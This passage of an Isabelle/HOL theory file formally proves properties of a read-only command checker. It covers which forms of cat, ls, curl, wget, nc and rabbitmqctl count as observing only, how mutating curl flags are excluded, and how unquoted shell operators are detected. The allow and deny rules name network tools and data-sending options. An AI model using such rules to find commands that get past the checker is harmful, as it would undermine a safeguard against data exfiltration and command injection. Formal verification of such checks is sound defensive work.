lemma wgetArgs_iff: "wgetArgs b args \<longleftrightarrow> (\<exists>os. optionsOf wgetAlone wgetValued args os \<and> (b \<or> (\<exists>x\<in>set os. toStdout (fst x))))"
proof (induction b args rule: wgetArgs.induct)
  case (2 b a args)
  let ?free = "HasPrefix a ''--timeout='' \<or> (HasPrefix a ''-T'' \<and> length a > 2)"
  consider (operand) "\<not> HasPrefix a ''-''" | (quiet) "a \<in> {''-q'', ''--quiet'', ''--no-check-certificate''}"
    | (stdout) "a \<in> {''-O-'', ''-qO-'', ''--output-document=-''}" | (out) "a \<in> {''-O'', ''--output-document''}"
    | (timeout) "a \<in> {''-T'', ''--timeout''}" | (free) "HasPrefix a ''-''" "?free" "\<not> toStdout a" "\<not> a \<in> {''-T'', ''--timeout''}"
        "\<not> a \<in> {''-q'', ''--quiet'', ''--no-check-certificate''}"
    | (other) "HasPrefix a ''-''" "\<not> wgetAlone a" "\<not> toStdout a" "\<not> a \<in> {''-T'', ''--timeout''}"
    by (auto simp: wgetAlone_def toStdout_def)
  then show ?case
  proof cases
    case operand
    then show ?thesis using 2 by (simp add: optionsOf_operand)
  next
    case quiet
    then have opt: "optionsOf wgetAlone wgetValued (a # args) os \<longleftrightarrow> (\<exists>os'. os = (a, None) # os' \<and> optionsOf wgetAlone wgetValued args os')" for os
      by (intro optionsOf_alone) (auto simp: wgetAlone_def wgetValued_def)
    have w: "wgetArgs b (a # args) = wgetArgs b args" and t: "\<not> toStdout a" using quiet by (auto simp: toStdout_def)
    have ih: "wgetArgs b args \<longleftrightarrow> (\<exists>os. optionsOf wgetAlone wgetValued args os \<and> (b \<or> (\<exists>x\<in>set os. toStdout (fst x))))"
      using quiet by (intro "2.IH"(2)) auto
    show ?thesis unfolding w opt some_option ih using t by simp
  next
    case stdout
    then have opt: "optionsOf wgetAlone wgetValued (a # args) os \<longleftrightarrow> (\<exists>os'. os = (a, None) # os' \<and> optionsOf wgetAlone wgetValued args os')" for os
      by (intro optionsOf_alone) (auto simp: wgetAlone_def wgetValued_def)
    have w: "wgetArgs b (a # args) = wgetArgs True args" using stdout by (elim insertE) simp_all
    have t: "toStdout a" using stdout by (auto simp: toStdout_def)
    have ih: "wgetArgs True args \<longleftrightarrow> (\<exists>os. optionsOf wgetAlone wgetValued args os \<and> (True \<or> (\<exists>x\<in>set os. toStdout (fst x))))"
      using stdout by (intro "2.IH"(3)) auto
    show ?thesis unfolding w opt some_option ih using t by simp
  next
    case out
    have dash: "HasPrefix a ''-''" and solo: "\<not> wgetAlone a" using out by (elim insertE; simp add: wgetAlone_def)+
    have opt: "optionsOf wgetAlone wgetValued (a # args) os \<longleftrightarrow>
        (\<exists>v rest os'. args = v # rest \<and> wgetValued a v \<and> os = (a, Some v) # os' \<and> optionsOf wgetAlone wgetValued rest os')" for os
      by (rule optionsOf_valued [OF dash, of wgetAlone, OF solo])
    have t: "toStdout a" "\<And>v. wgetValued a v \<longleftrightarrow> v = ''-''" using out by (auto simp: toStdout_def wgetValued_def)
    have w: "wgetArgs b (a # args) \<longleftrightarrow> (case args of [] \<Rightarrow> False | v # rest \<Rightarrow> v = ''-'' \<and> wgetArgs True rest)" using out by (elim insertE) simp_all
    show ?thesis
    proof (cases args)
      case (Cons v rest)
      show ?thesis
      proof (cases "v = ''-''")
        case True
        have "wgetArgs True rest \<longleftrightarrow> (\<exists>os. optionsOf wgetAlone wgetValued rest os \<and> (True \<or> (\<exists>x\<in>set os. toStdout (fst x))))"
          using out True by (intro "2.IH"(4) [OF _ _ _ _ Cons]) auto
        moreover have "optionsOf wgetAlone wgetValued (a # ''-'' # rest) os \<longleftrightarrow>
            (\<exists>os'. os = (a, Some ''-'') # os' \<and> optionsOf wgetAlone wgetValued rest os')" for os
          by (rule optionsOf_with_value [OF dash, of wgetAlone, OF solo]) (simp add: t(2))
        ultimately show ?thesis unfolding Cons True w [unfolded Cons True] using t(1) by (simp only: list.case some_option simp_thms fst_conv)
      next
        case False
        then have "\<not> wgetValued a v" using t(2) by simp
        then have "\<not> optionsOf wgetAlone wgetValued (a # args) os" for os using opt [of os] Cons by simp
        then show ?thesis using False w [unfolded Cons] unfolding Cons by simp
      qed
    next
      case Nil
      then have "\<not> optionsOf wgetAlone wgetValued (a # args) os" for os using opt [of os] by simp
      then show ?thesis unfolding w [unfolded Nil list.case] Nil by simp
    qed
  next
    case timeout
    have dash: "HasPrefix a ''-''" and solo: "\<not> wgetAlone a" using timeout by (elim insertE; simp add: wgetAlone_def)+
    have opt: "optionsOf wgetAlone wgetValued (a # args) os \<longleftrightarrow>
        (\<exists>v rest os'. args = v # rest \<and> wgetValued a v \<and> os = (a, Some v) # os' \<and> optionsOf wgetAlone wgetValued rest os')" for os
      by (rule optionsOf_valued [OF dash, of wgetAlone, OF solo])
    have t: "\<not> toStdout a" "\<And>v. wgetValued a v" using timeout by (auto simp: toStdout_def wgetValued_def)
    have w: "wgetArgs b (a # args) \<longleftrightarrow> (case args of [] \<Rightarrow> False | v # rest \<Rightarrow> wgetArgs b rest)" using timeout by (elim insertE) simp_all
    show ?thesis
    proof (cases args)
      case (Cons v rest)
      have "wgetArgs b rest \<longleftrightarrow> (\<exists>os. optionsOf wgetAlone wgetValued rest os \<and> (b \<or> (\<exists>x\<in>set os. toStdout (fst x))))"
        using timeout by (intro "2.IH"(5) [OF _ _ _ _ _ Cons]) auto
      moreover have "optionsOf wgetAlone wgetValued (a # v # rest) os \<longleftrightarrow>
          (\<exists>os'. os = (a, Some v) # os' \<and> optionsOf wgetAlone wgetValued rest os')" for os
        by (rule optionsOf_with_value [OF dash, of wgetAlone wgetValued, OF solo t(2)])
      ultimately show ?thesis unfolding Cons w [unfolded Cons] using t by (simp only: list.case some_option simp_thms fst_conv)
    next
      case Nil
      then have "\<not> optionsOf wgetAlone wgetValued (a # args) os" for os using opt [of os] by simp
      then show ?thesis unfolding w [unfolded Nil list.case] Nil by simp
    qed
  next
    case free
    then have opt: "optionsOf wgetAlone wgetValued (a # args) os \<longleftrightarrow> (\<exists>os'. os = (a, None) # os' \<and> optionsOf wgetAlone wgetValued args os')" for os
      by (intro optionsOf_alone) (auto simp: wgetAlone_def wgetValued_def toStdout_def)
    have w: "wgetArgs b (a # args) = wgetArgs b args" using free by (auto simp: toStdout_def)
    have ih: "wgetArgs b args \<longleftrightarrow> (\<exists>os. optionsOf wgetAlone wgetValued args os \<and> (b \<or> (\<exists>x\<in>set os. toStdout (fst x))))"
      using free by (intro "2.IH"(6)) (auto simp: toStdout_def)
    show ?thesis unfolding w opt some_option ih using free(3) by simp
  next
    case other
    then have "optionsOf wgetAlone wgetValued (a # args) os \<longleftrightarrow>
        (\<exists>v rest os'. args = v # rest \<and> wgetValued a v \<and> os = (a, Some v) # os' \<and> optionsOf wgetAlone wgetValued rest os')" for os
      by (intro optionsOf_valued) auto
    moreover have "\<not> wgetValued a v" for v using other by (auto simp: wgetValued_def toStdout_def)
    moreover have "\<not> wgetArgs b (a # args)" using other by (auto simp: wgetAlone_def toStdout_def)
    ultimately show ?thesis by simp
  qed
qed simp

definition ncAlone :: "string \<Rightarrow> bool" where
  "ncAlone a \<longleftrightarrow> length a > 1 \<and> (HasPrefix a ''-w'' \<and> length a > 2 \<or> set (tl a) \<subseteq> set ''zvnu'')"

definition ncValued :: "string \<Rightarrow> string \<Rightarrow> bool" where
  "ncValued a v \<longleftrightarrow> a = ''-w''"

definition zeroFlag :: "string \<Rightarrow> bool" where
  "zeroFlag a \<longleftrightarrow> \<not> HasPrefix a ''-w'' \<and> CHR ''z'' \<in> set (tl a)"

lemma ncBundle_iff: "ncBundle b cs = (if set cs \<subseteq> set ''zvnu'' then Some (b \<or> CHR ''z'' \<in> set cs) else None)"
  by (induction b cs rule: ncBundle.induct) auto

fun rabbitGlobals :: "string list \<Rightarrow> bool" where
  "rabbitGlobals [] = True"
| "rabbitGlobals (f # fs) \<longleftrightarrow> HasPrefix f ''-'' \<and>
     (if f \<in> set rabbitmqctlFlagsWithValue then fs \<noteq> [] \<and> rabbitGlobals (tl fs) else rabbitGlobals fs)"

lemma rabbit_iff:
  "isReadOnlyRabbitmqctl args \<longleftrightarrow> (\<exists>flags sub rest. args = flags @ sub # rest \<and> rabbitGlobals flags \<and> \<not> HasPrefix sub ''-'' \<and> reporting sub)"
proof
  assume "isReadOnlyRabbitmqctl args"
  then show "\<exists>flags sub rest. args = flags @ sub # rest \<and> rabbitGlobals flags \<and> \<not> HasPrefix sub ''-'' \<and> reporting sub"
  proof (induction args rule: isReadOnlyRabbitmqctl.induct)
    case (2 a args)
    consider "\<not> HasPrefix a ''-''" | "HasPrefix a ''-''" "a \<notin> set rabbitmqctlFlagsWithValue" |
      v rest where "HasPrefix a ''-''" "a \<in> set rabbitmqctlFlagsWithValue" "args = v # rest"
      using "2.prems" by (cases args) (auto split: if_splits)
    then show ?case
    proof cases
      case 1
      then have "a # args = [] @ a # args \<and> rabbitGlobals [] \<and> \<not> HasPrefix a ''-'' \<and> reporting a" using "2.prems" by auto
      then show ?thesis by blast
    next
      case 2
      then obtain flags sub rest where "args = flags @ sub # rest \<and> rabbitGlobals flags \<and> \<not> HasPrefix sub ''-'' \<and> reporting sub"
        using "2.IH"(2) "2.prems" by auto
      then show ?thesis using 2 by (intro exI [of _ "a # flags"]) auto
    next
      case (3 v r)
      then obtain flags sub rest where "r = flags @ sub # rest \<and> rabbitGlobals flags \<and> \<not> HasPrefix sub ''-'' \<and> reporting sub"
        using "2.IH"(1) "2.prems" by auto
      then show ?thesis using 3 by (intro exI [of _ "a # v # flags"]) auto
    qed
  qed simp
next
  assume "\<exists>flags sub rest. args = flags @ sub # rest \<and> rabbitGlobals flags \<and> \<not> HasPrefix sub ''-'' \<and> reporting sub"
  then obtain flags sub rest where args: "args = flags @ sub # rest" and g: "rabbitGlobals flags" "\<not> HasPrefix sub ''-''" "reporting sub" by blast
  have "isReadOnlyRabbitmqctl (flags @ sub # rest)" using g(1)
  proof (induction flags rule: rabbitGlobals.induct)
    case (2 f fs)
    then show ?case by (cases fs) (auto split: if_splits)
  qed (use g in simp)
  then show "isReadOnlyRabbitmqctl args" using args by simp
qed

lemma ncArgs_iff: "ncArgs b args \<longleftrightarrow> (\<exists>os. optionsOf ncAlone ncValued args os \<and> (b \<or> (\<exists>x\<in>set os. zeroFlag (fst x))))"
proof (induction b args rule: ncArgs.induct)
  case (2 b a args)
  consider (operand) "\<not> HasPrefix a ''-''" | (w) "a = ''-w''" | (attached) "HasPrefix a ''-w''" "length a > 2"
    | (short) cs where "a = CHR ''-'' # cs" "cs \<noteq> []" "hd cs \<notin> {CHR ''-'', CHR ''w''}" | (other) "a \<in> {''-''} \<or> HasPrefix a ''--''"
    by (cases a; cases "tl a"; cases "tl (tl a)") auto
  then show ?case
  proof cases
    case operand
    then show ?thesis using 2 by (simp add: optionsOf_operand)
  next
    case w
    have dash: "HasPrefix a ''-''" and solo: "\<not> ncAlone a" and zero: "\<not> zeroFlag a" unfolding w by (simp_all add: ncAlone_def zeroFlag_def)
    note opt = optionsOf_valued [OF dash, of ncAlone, OF solo]
    have step: "ncArgs b (a # args) \<longleftrightarrow> (case args of [] \<Rightarrow> False | v # rest \<Rightarrow> ncArgs b rest)" unfolding w by simp
    show ?thesis
    proof (cases args)
      case (Cons v rest)
      have "ncArgs b rest \<longleftrightarrow> (\<exists>os. optionsOf ncAlone ncValued rest os \<and> (b \<or> (\<exists>x\<in>set os. zeroFlag (fst x))))"
        using w by (intro "2.IH"(2) [OF _ _ Cons]) auto
      moreover have "optionsOf ncAlone ncValued (a # v # rest) os \<longleftrightarrow> (\<exists>os'. os = (a, Some v) # os' \<and> optionsOf ncAlone ncValued rest os')" for os
        by (rule optionsOf_with_value [OF dash, of ncAlone ncValued, OF solo]) (simp add: ncValued_def w)
      ultimately show ?thesis unfolding Cons step [unfolded Cons] using zero by (simp only: list.case some_option simp_thms fst_conv)
    next
      case Nil
      then have "\<not> optionsOf ncAlone ncValued (a # args) os" for os using opt by simp
      then show ?thesis unfolding step [unfolded Nil list.case] Nil by simp
    qed
  next
    case attached
    then have dash: "HasPrefix a ''-''" "a \<noteq> ''-w''" "ncAlone a" "\<not> zeroFlag a" by (auto simp: HasPrefix_iff ncAlone_def zeroFlag_def)
    have opt: "optionsOf ncAlone ncValued (a # args) os \<longleftrightarrow> (\<exists>os'. os = (a, None) # os' \<and> optionsOf ncAlone ncValued args os')" for os
      using dash by (intro optionsOf_alone) (auto simp: ncValued_def)
    have w: "ncArgs b (a # args) = ncArgs b args" using dash attached by simp
    have ih: "ncArgs b args \<longleftrightarrow> (\<exists>os. optionsOf ncAlone ncValued args os \<and> (b \<or> (\<exists>x\<in>set os. zeroFlag (fst x))))"
      using dash attached by (intro "2.IH"(3)) auto
    show ?thesis unfolding w opt some_option ih using dash(4) by simp
  next
    case (short cs)
    have dash: "HasPrefix a ''-''" "a \<noteq> ''-w''" "\<not> HasPrefix a ''-w''" "length a > 1" "a ! 1 \<noteq> CHR ''-''" "tl a = cs"
      using short by (auto simp: hd_conv_nth) (cases cs; simp)+
    have w: "ncArgs b (a # args) \<longleftrightarrow> (case ncBundle b cs of None \<Rightarrow> False | Some z \<Rightarrow> ncArgs z args)" using dash by simp
    show ?thesis
    proof (cases "set cs \<subseteq> set ''zvnu''")
      case True
      let ?z = "b \<or> CHR ''z'' \<in> set cs"
      have "ncAlone a" using True dash by (simp add: ncAlone_def)
      then have opt: "optionsOf ncAlone ncValued (a # args) os \<longleftrightarrow> (\<exists>os'. os = (a, None) # os' \<and> optionsOf ncAlone ncValued args os')" for os
        using dash by (intro optionsOf_alone) (auto simp: ncValued_def)
      have ih: "ncArgs ?z args \<longleftrightarrow> (\<exists>os. optionsOf ncAlone ncValued args os \<and> (?z \<or> (\<exists>x\<in>set os. zeroFlag (fst x))))"
        using dash True by (intro "2.IH"(4)) (auto simp: ncBundle_iff)
      have "zeroFlag a \<longleftrightarrow> CHR ''z'' \<in> set cs" using dash by (simp add: zeroFlag_def)
      then show ?thesis unfolding w opt some_option using True ih by (simp add: ncBundle_iff)
    next
      case False
      then have solo: "\<not> ncAlone a" using dash by (auto simp: ncAlone_def)
      have "\<not> optionsOf ncAlone ncValued (a # args) os" for os
        using optionsOf_valued [OF dash(1), of ncAlone, OF solo, of ncValued args os] dash(2) by (simp add: ncValued_def)
      then show ?thesis unfolding w using False by (simp add: ncBundle_iff)
    qed
  next
    case other
    then have dash: "HasPrefix a ''-''" "\<not> ncAlone a" "a \<noteq> ''-w''" "\<not> HasPrefix a ''-w''" "\<not> (length a > 1 \<and> a ! 1 \<noteq> CHR ''-'')"
      by (auto simp: HasPrefix_iff ncAlone_def)
    have "\<not> ncArgs b (a # args)" using dash by auto
    moreover have "\<not> optionsOf ncAlone ncValued (a # args) os" for os
      using optionsOf_valued [OF dash(1), of ncAlone, OF dash(2), of ncValued args os] dash(3) by (simp add: ncValued_def)
    ultimately show ?thesis by simp
  qed
qed simp

inductive observes :: "string list \<Rightarrow> bool" where
  "prog \<in> {''cat'', ''df'', ''du'', ''free'', ''grep'', ''head'', ''id'', ''ls'', ''ping'', ''ps'', ''pwd'', ''stat'', ''tail'', ''uptime'', ''wc''} \<Longrightarrow>
     observes (prog # args)"
| "observes [''env'']"
| "rabbitGlobals flags \<Longrightarrow> \<not> HasPrefix subcommand ''-'' \<Longrightarrow> reporting subcommand \<Longrightarrow> observes (''rabbitmqctl'' # flags @ subcommand # args)"
| "curlReads args options \<Longrightarrow> observes (''curl'' # args)"
| "optionsOf wgetAlone wgetValued args options \<Longrightarrow> x \<in> set options \<Longrightarrow> toStdout (fst x) \<Longrightarrow> observes (''wget'' # args)"
| "optionsOf ncAlone ncValued args options \<Longrightarrow> x \<in> set options \<Longrightarrow> zeroFlag (fst x) \<Longrightarrow> observes (''nc'' # args)"

inductive_simps observes_Cons: "observes (prog # args)"
inductive_simps observes_Nil [simp]: "observes []"

definition solid :: "string \<Rightarrow> bool" where
  "solid f \<longleftrightarrow> f \<noteq> '''' \<and> (\<forall>c\<in>set f. \<not> isSpace c)"

lemma pair_ex: "(\<exists>a. (\<exists>b. (a, b) \<in> S) \<and> Q a) \<longleftrightarrow> (\<exists>x\<in>S. Q (fst x))"
  by force

lemma reporting_programs:
  "set ReadOnlyRemoteCommands =
     {''cat'', ''df'', ''du'', ''free'', ''grep'', ''head'', ''id'', ''ls'', ''ping'', ''ps'', ''pwd'', ''stat'', ''tail'', ''uptime'', ''wc''}"
  by (auto simp: ReadOnlyRemoteCommands_def)

lemma observes_iff:
  "observes (prog # args) \<longleftrightarrow> prog \<in> set ReadOnlyRemoteCommands \<or> (prog = ''env'' \<and> args = []) \<or>
     (prog = ''rabbitmqctl'' \<and> isReadOnlyRabbitmqctl args) \<or> (prog = ''curl'' \<and> curlArgs args) \<or>
     (prog = ''wget'' \<and> wgetArgs False args) \<or> (prog = ''nc'' \<and> ncArgs False args)"
proof -
  have "curlArgs args \<longleftrightarrow> (\<exists>os. curlReads args os)" using curlArgs_reads reads_curlArgs by blast
  then show ?thesis
    unfolding observes_Cons wgetArgs_iff ncArgs_iff rabbit_iff reporting_programs by (simp add: pair_ex)
qed

lemma special_programs:
  "''curl'' \<notin> set ReadOnlyRemoteCommands" "''wget'' \<notin> set ReadOnlyRemoteCommands" "''nc'' \<notin> set ReadOnlyRemoteCommands"
  "''env'' \<notin> set ReadOnlyRemoteCommands" "''rabbitmqctl'' \<notin> set ReadOnlyRemoteCommands" by (simp_all add: ReadOnlyRemoteCommands_def)

text \<open>A remote command is judged on its words, but for \<open>curl\<close>, whose words are joined with blanks and split again.\<close>

lemma remote_words:
  "remoteCommandIsReadOnly fields \<longleftrightarrow> (\<forall>f\<in>set fields. set f \<inter> set shellOperators = {}) \<and> fields \<noteq> [] \<and>
     (if hd fields = ''curl'' then IsReadOnlyCurlCommand (Join fields '' '') else observes fields)"
proof (cases fields)
  case (Cons prog args)
  show ?thesis
    unfolding Cons list.sel observes_iff using special_programs
    by (auto simp: remoteCommandIsReadOnly_def list_ex_iff IsReadOnlyWgetCommand_def IsReadOnlyNcCommand_def ContainsAny_iff)
qed (simp add: remoteCommandIsReadOnly_def)

lemma curl_observes: "IsReadOnlyCurlCommand input \<Longrightarrow> observes (Fields input)"
  by (auto simp: IsReadOnlyCurlCommand_def observes_iff split: list.splits)

lemma remote_iff:
  assumes "\<forall>f\<in>set fields. solid f"
  shows "remoteCommandIsReadOnly fields \<longleftrightarrow> (\<forall>f\<in>set fields. set f \<inter> set shellOperators = {}) \<and> observes fields"
proof (cases fields)
  case (Cons prog args)
  have "IsReadOnlyCurlCommand (Join fields '' '') \<longleftrightarrow> observes fields" if "prog = ''curl''"
    using Fields_Join [of fields] assms that Cons special_programs by (simp add: IsReadOnlyCurlCommand_def solid_def observes_iff)
  then show ?thesis unfolding remote_words by (auto simp: Cons)
qed (simp add: remoteCommandIsReadOnly_def)

section \<open>Reading and mutating options\<close>

lemma HasPrefix_assigned:
  assumes "CHR ''='' \<notin> set n" "CHR ''='' \<notin> set f" "HasPrefix (n @ ''='' @ v) (f @ ''='')"
  shows "n = f"
proof -
  obtain r where "n @ ''='' @ v = f @ ''='' @ r" using assms(3) by (auto simp: HasPrefix_iff)
  then have "takeWhile (\<lambda>c. c \<noteq> CHR ''='') (n @ ''='' @ v) = takeWhile (\<lambda>c. c \<noteq> CHR ''='') (f @ ''='' @ r)" by simp
  moreover have "takeWhile (\<lambda>c. c \<noteq> CHR ''='') (m @ ''='' @ w) = m" if "CHR ''='' \<notin> set m" for m w
    using that by (induction m) auto
  ultimately show ?thesis using assms(1,2) by metis
qed

lemma mutation_no_equals: "f \<in> set curlMutationFlags \<Longrightarrow> CHR ''='' \<notin> set f"
  by (auto simp: curlMutationFlags_def)

lemma long_not_mutating:
  assumes "HasPrefix a ''--''" "CHR ''='' \<notin> set n" "n \<notin> set curlMutationFlags" "a = n \<or> a = n @ ''='' @ v"
  shows "\<not> IsCurlMutationToken a"
proof -
  have "\<not> (a = f \<or> HasPrefix a (f @ ''='') \<or> (length f = 2 \<and> HasPrefix a f \<and> length a > length f))" if f: "f \<in> set curlMutationFlags" for f
  proof -
    have neq: "n \<noteq> f" "CHR ''='' \<notin> set f" using f assms(3) mutation_no_equals by auto
    have "a \<noteq> f" using neq assms(4) by auto
    moreover have "\<not> HasPrefix a (f @ ''='')"
      using assms(4)
    proof
      assume "a = n"
      then show ?thesis using assms(2) by (auto simp: HasPrefix_iff)
    next
      assume "a = n @ ''='' @ v"
      then show ?thesis using HasPrefix_assigned [OF assms(2) neq(2), of v] neq(1) by blast
    qed
    moreover have "\<not> (length f = 2 \<and> HasPrefix a f)"
      using f assms(1) by (auto simp: curlMutationFlags_def HasPrefix_iff)
    ultimately show ?thesis by blast
  qed
  then show ?thesis using assms(1) by (auto simp: IsCurlMutationToken_def hasFlagWithValue_def list_ex_iff hasMutatingCurlShortOption_def)
qed

lemma short_flags_pass:
  assumes "c \<in> set curlShortFlags"
  shows "mutatingShort (c # cs) = mutatingShort cs"
proof -
  have "list_all (\<lambda>c. c \<notin> set ''dFTXKQ'' \<and> c \<notin> set ''AbcCDeEhHmoPrtuUwxyYz'') curlShortFlags" by code_simp
  then have "c \<notin> set ''dFTXKQ''" "c \<notin> set ''AbcCDeEhHmoPrtuUwxyYz''" using assms unfolding list_all_iff by blast+
  then show ?thesis by (simp only: mutatingShort.simps if_False)
qed

lemma mutatingShort_flags: "set cs \<subseteq> set curlShortFlags \<Longrightarrow> mutatingShort (cs @ ds) = mutatingShort ds"
proof (induction cs)
  case (Cons c cs)
  then show ?case using short_flags_pass [of c "cs @ ds"] by simp
qed simp

lemma short_not_mutating:
  assumes "set cs \<subseteq> set curlShortFlags" "ds = [] \<or> hd ds \<in> set curlShortFlagsWithValue" "cs @ ds \<noteq> []"
  shows "\<not> IsCurlMutationToken (''-'' @ cs @ ds)"
proof -
  obtain c rest where cd: "cs @ ds = c # rest" using assms(3) by (cases "cs @ ds") auto
  have c: "c \<in> set curlShortFlags \<union> set curlShortFlagsWithValue" using cd assms(1,2) by (cases cs) auto
  then have c': "c \<notin> set ''-dFTXKQ''" by (auto simp: curlShortFlags_def curlShortFlagsWithValue_def)
  have second: "\<exists>x xs. f = CHR ''-'' # x # xs \<and> x \<in> set ''-dFTXKQ''" if "f \<in> set curlMutationFlags" for f
  proof -
    have "list_all (\<lambda>f. length f \<ge> 2 \<and> hd f = CHR ''-'' \<and> f ! 1 \<in> set ''-dFTXKQ'') curlMutationFlags" by code_simp
    then have f: "length f \<ge> 2" "hd f = CHR ''-''" "f ! 1 \<in> set ''-dFTXKQ''" using that by (simp_all add: list_all_iff)
    then obtain y x xs where "f = y # x # xs" by (cases f; cases "tl f") auto
    then show ?thesis using f(2,3) by simp
  qed
  have "\<not> (CHR ''-'' # c # rest = f \<or> HasPrefix (CHR ''-'' # c # rest) (f @ ''='') \<or>
      (length f = 2 \<and> HasPrefix (CHR ''-'' # c # rest) f \<and> length (CHR ''-'' # c # rest) > length f))" if m: "f \<in> set curlMutationFlags" for f
  proof -
    obtain x xs where f: "f = CHR ''-'' # x # xs" "x \<in> set ''-dFTXKQ''" using second [OF m] by blast
    then have "c \<noteq> x" using c' by blast
    then show ?thesis using f(1) by simp
  qed
  then have "\<not> hasFlagWithValue (CHR ''-'' # c # rest) curlMutationFlags"
    by (simp add: hasFlagWithValue_def list_ex_iff)
  moreover have "\<not> mutatingShort ds"
    using assms(2) by (cases ds) (auto simp: curlShortFlagsWithValue_def)
  then have "\<not> mutatingShort (c # rest)" using mutatingShort_flags [OF assms(1), of ds] cd by simp
  ultimately show ?thesis unfolding cd by (simp add: IsCurlMutationToken_def hasMutatingCurlShortOption_def cd)
qed

lemma reads_not_mutating: "curlReads args os \<Longrightarrow> \<forall>t\<in>set os. \<not> IsCurlMutationToken t"
proof (induction rule: curlReads.induct)
  case (Flag a args os)
  have "a \<notin> set curlMutationFlags" using Flag(2) by (auto simp: curlFlags_def curlMutationFlags_def)
  then show ?case using long_not_mutating [OF Flag(1) flag_no_equals [OF Flag(2)]] Flag by simp
next
  case (Assigned n v args os)
  have "n \<notin> set curlMutationFlags" using Assigned(2) by (auto simp: curlFlagsWithValue_def curlMutationFlags_def)
  moreover have "HasPrefix (n @ ''='' @ v) ''--''" using Assigned(1) by (auto simp: HasPrefix_iff)
  ultimately have "\<not> IsCurlMutationToken (n @ ''='' @ v)" using long_not_mutating [OF _ valued_no_equals [OF Assigned(2)]] by blast
  then show ?case using Assigned by simp
next
  case (Valued n v args os)
  have "n \<notin> set curlMutationFlags" using Valued(2) by (auto simp: curlFlagsWithValue_def curlMutationFlags_def)
  then show ?case using long_not_mutating [OF Valued(1) valued_no_equals [OF Valued(2)]] Valued by simp
next
  case (Bundle cs args os)
  then show ?case using short_not_mutating [of cs "[]"] by simp
next
  case (Attached cs c v args os)
  then show ?case using short_not_mutating [of cs "c # v"] by simp
next
  case (Separate cs c v args os)
  then show ?case using short_not_mutating [of cs "[c]"] by simp
qed simp_all

section \<open>Quoting\<close>

text \<open>Whether the text so far ends inside single quotes, inside double quotes, after a backslash.\<close>

definition quoteStep :: "bool \<times> bool \<times> bool \<Rightarrow> char \<Rightarrow> bool \<times> bool \<times> bool" where
  "quoteStep = (\<lambda>(s, d, e) c.
     if e then (s, d, False)
     else if c = CHR 0x5C \<and> \<not> s then (s, d, True)
     else if c = CHR 0x27 \<and> \<not> d then (\<not> s, d, False)
     else if c = CHR 0x22 \<and> \<not> s then (s, \<not> d, False)
     else (s, d, False))"

definition quoteState :: "string \<Rightarrow> bool \<times> bool \<times> bool" where
  "quoteState pre = foldl quoteStep (False, False, False) pre"

text \<open>The shell acts on the character \<open>c\<close> between \<open>pre\<close> and \<open>post\<close>.\<close>

definition acts :: "string \<Rightarrow> char \<Rightarrow> string \<Rightarrow> bool" where
  "acts pre c post \<longleftrightarrow>
     (case quoteState pre of (s, d, e) \<Rightarrow> \<not> e \<and> \<not> s \<and>
        (c = CHR 0x60 \<or> (c = CHR ''$'' \<and> HasPrefix post ''('') \<or>
         (\<not> d \<and> (c \<in> set ''|&;<>(){}'' \<union> {CHR 0x0A, CHR 0x0D} \<or>
            (c = CHR 0x23 \<and> (pre = [] \<or> last pre \<in> {CHR '' '', CHR 0x09}))))))"

lemma acts_operators:
  "acts pre c post \<longleftrightarrow>
     (case quoteState pre of (s, d, e) \<Rightarrow> \<not> e \<and> \<not> s \<and>
        (c = CHR 0x60 \<or> (c = CHR ''$'' \<and> HasPrefix post ''('') \<or>
         (\<not> d \<and> (c \<in> set commandOperators \<or> (c = CHR 0x23 \<and> (pre = [] \<or> last pre \<in> {CHR '' '', CHR 0x09}))))))"
proof -
  have "set commandOperators = set ''|&;<>(){}'' \<union> {CHR 0x0A, CHR 0x0D}"
    by (simp only: commandOperators_def set_append list.set)
  then show ?thesis by (simp only: acts_def)
qed

lemma quoteState_snoc: "quoteState (pre @ [c]) = quoteStep (quoteState pre) c"
  by (simp add: quoteState_def)

lemma decided_or:
  "\<not> e \<Longrightarrow> \<not> s \<Longrightarrow> u = (if A \<or> A' then True else if \<not> d \<and> B then True else if \<not> d \<and> C then True else R) \<Longrightarrow>
     u \<longleftrightarrow> (\<not> e \<and> \<not> s \<and> (A \<or> A' \<or> (\<not> d \<and> (B \<or> C)))) \<or> R"
  by auto

lemma unquotedSyntax_spec:
  assumes "quoteState pre = (s, d, e)" "prev = (if pre = [] then None else Some (last pre))"
  shows "unquotedSyntax s d e prev cs \<longleftrightarrow>
    quoteState (pre @ cs) \<noteq> (False, False, False) \<or> (\<exists>us c vs. cs = us @ c # vs \<and> acts (pre @ us) c vs)"
  using assms
proof (induction cs arbitrary: pre s d e prev)
  case (Cons c cs)
  have split: "(\<exists>us x vs. c # cs = us @ x # vs \<and> acts (pre @ us) x vs) \<longleftrightarrow>
      acts pre c cs \<or> (\<exists>us x vs. cs = us @ x # vs \<and> acts ((pre @ [c]) @ us) x vs)" (is "?l \<longleftrightarrow> ?r")
  proof
    assume ?l
    then obtain us x vs where u: "c # cs = us @ x # vs" "acts (pre @ us) x vs" by blast
    show ?r
    proof (cases us)
      case Nil
      then show ?thesis using u by simp
    next
      case (Cons y ys)
      then have "cs = ys @ x # vs \<and> acts ((pre @ [c]) @ ys) x vs" using u by simp
      then show ?thesis by blast
    qed
  next
    assume ?r
    then show ?l
    proof
      assume "acts pre c cs"
      then have "c # cs = [] @ c # cs \<and> acts (pre @ []) c cs" by simp
      then show ?l by blast
    next
      assume "\<exists>us x vs. cs = us @ x # vs \<and> acts ((pre @ [c]) @ us) x vs"
      then obtain us x vs where "c # cs = (c # us) @ x # vs \<and> acts (pre @ (c # us)) x vs" by auto
      then show ?l by blast
    qed
  qed
  obtain s' d' e' where st: "quoteStep (s, d, e) c = (s', d', e')" by (cases "quoteStep (s, d, e) c") auto
  have "quoteState (pre @ [c]) = (s', d', e')" using Cons.prems(1) st by (simp add: quoteState_snoc)
  from Cons.IH [OF this, of "Some c"]
  have ih: "unquotedSyntax s' d' e' (Some c) cs \<longleftrightarrow>
      quoteState (pre @ c # cs) \<noteq> (False, False, False) \<or> (\<exists>us x vs. cs = us @ x # vs \<and> acts ((pre @ [c]) @ us) x vs)" by simp
  have next_char: "cs \<noteq> [] \<and> hd cs = CHR ''('' \<longleftrightarrow> HasPrefix cs ''(''" by (cases cs) auto
  have start: "prev \<in> {None, Some (CHR '' ''), Some (CHR 0x09)} \<longleftrightarrow> pre = [] \<or> last pre \<in> {CHR '' '', CHR 0x09}"
    using Cons.prems(2) by auto
  have plain: "CHR 0x5C \<notin> set commandOperators" "CHR 0x27 \<notin> set commandOperators" "CHR 0x22 \<notin> set commandOperators"
